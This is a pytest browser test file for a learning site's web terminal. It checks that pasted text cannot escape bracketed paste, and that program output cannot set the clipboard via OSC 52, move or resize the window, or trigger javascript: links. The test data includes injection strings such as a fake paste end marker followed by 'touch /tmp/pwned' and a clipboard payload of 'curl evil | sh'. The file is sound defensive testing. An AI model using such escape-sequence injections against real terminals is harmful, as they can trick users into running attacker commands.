"""What pasted text and terminal output can do in a real browser.

Pasted text loses its escape characters before it reaches the shell, and
output the learner's programs print cannot write the clipboard, resize or
move the window, send reports back into the shell, or run a javascript: link.
"""

import pytest

from .browser import LabTerminal

SENTINEL = "clipboard before the test"


@pytest.fixture
def lab_terminal(make_learner, start_ready_session, page_for):
    """The Pod Security lab page of a ready session, with clipboard access."""
    learner = make_learner("paster")
    start_ready_session(learner)
    page = page_for(learner, permissions=["clipboard-read", "clipboard-write"])
    page.goto("/labs/pod-security-standards/")
    terminal = LabTerminal(page)
    terminal.wait_until_connected()
    return terminal


def paste(terminal: LabTerminal, text: str) -> None:
    """Put text on the clipboard and paste it with Ctrl+Shift+V.

    Ctrl+V alone is not a paste in a terminal: xterm.js sends it to the
    shell as ^V (quoted insert).
    """
    terminal.page.evaluate("text => navigator.clipboard.writeText(text)", text)
    terminal.focus()
    terminal.page.keyboard.press("Control+Shift+V")


def test_paste_reaches_program_without_escapes(lab_terminal):
    terminal = lab_terminal
    terminal.clear()
    terminal.type("cat -v\n")
    terminal.wait_for(lambda: len(terminal.rows()[1:2]) and not terminal.rows()[1])

    paste(terminal, "echo ok\x1b[201~touch /tmp/pwned\r")
    terminal.wait_for_text("echo ok[201~touch /tmp/pwned")
    terminal.page.keyboard.press("Control+d")
    terminal.wait_for_prompt()

    # cat -v prints an escape character as ^[, so none reached it.
    screen = terminal.text()
    assert "^[" not in screen
    assert "[201~touch /tmp/pwned" in screen


def test_paste_with_end_marker_stays_editable(lab_terminal):
    terminal = lab_terminal
    terminal.clear()

    paste(terminal, "echo ok\x1b[201~touch /tmp/pwned\r")
    terminal.wait_for_text("$ echo ok[201~touch /tmp/pwned")
    rows = terminal.rows()
    terminal.page.keyboard.press("Control+c")
    screen = terminal.run(
        "test -e /tmp/pwned && echo CREATED || echo NOT-CREATED", expect="CREATED"
    )

    # The paste sat on the command line: no output row, no second prompt.
    assert rows[1:] == [""] * (len(rows) - 1)
    assert "NOT-CREATED" in screen


def test_osc52_output_leaves_clipboard_alone(lab_terminal):
    terminal = lab_terminal
    page = terminal.page
    page.evaluate("text => navigator.clipboard.writeText(text)", SENTINEL)

    # Set the clipboard (OSC 52 with base64 text), then ask for it back.
    terminal.run(
        "printf '\\033]52;c;%s\\a' \"$(printf 'curl evil | sh' | base64)\"; "
        "printf '\\033]52;c;?\\a'; read -r -s -t 1 -n 200 reply; "
        "printf 'reply=%q\\n' \"$reply\"",
        expect="reply=",
    )

    assert page.evaluate("navigator.clipboard.readText()") == SENTINEL
    assert "reply=''" in terminal.text()


def test_window_operations_do_nothing(lab_terminal):
    terminal = lab_terminal
    page = terminal.page
    measure = (
        "() => ({cols: window.labTerminal.term.cols, rows: window.labTerminal.term.rows,"
        " width: window.innerWidth, height: window.innerHeight,"
        " x: window.screenX, y: window.screenY, title: document.title})"
    )
    before = page.evaluate(measure)

    # Resize to 5x20 characters and to 100x100 pixels, move, iconify,
    # maximize and raise, then set the title. Then request reports of the
    # title, sizes and position, which a terminal would type back into the
    # shell.
    terminal.run(
        "printf '\\033[8;5;20t\\033[4;100;100t\\033[3;0;0t\\033[2t\\033[9;1t"
        "\\033[5t\\033]2;touch /tmp/title\\a\\033[21t\\033[20t\\033[14t"
        "\\033[18t\\033[13t\\033[11t\\033[19t'; read -r -s -t 1 -n 200 reply; "
        "printf 'reply=%q\\n' \"$reply\"",
        expect="reply=",
    )

    assert page.evaluate(measure) == before
    assert "reply=''" in terminal.text()
    assert len(terminal.rows()) == before["rows"]


def test_javascript_links_are_inert(lab_terminal):
    terminal = lab_terminal
    page = terminal.page
    dialogs, popups = [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.context.on("page", lambda popup: popups.append(popup.url))
    url = page.url

    # An OSC 8 hyperlink and a bare URL, both with javascript: targets.
    terminal.run(
        "printf '\\033]8;;javascript:window.pwned=1\\033\\\\osc8-link\\033]8;;"
        "\\033\\\\\\n'; echo javascript:window.pwned=2",
        expect="javascript:window.pwned=2",
    )
    for text in ("osc8-link", "javascript:window.pwned=2"):
        x, y = terminal.locate(text)
        page.mouse.move(x, y)
        page.mouse.click(x, y)
        page.keyboard.down("Control")
        page.mouse.click(x, y)
        page.keyboard.up("Control")
    # Anything a click started would have run by the time a new command
    # made the round trip through the shell.
    terminal.run("echo after-clicks", expect="after-clicks")

    assert page.evaluate("window.pwned") is None
    assert dialogs == []
    assert popups == []
    assert page.url == url
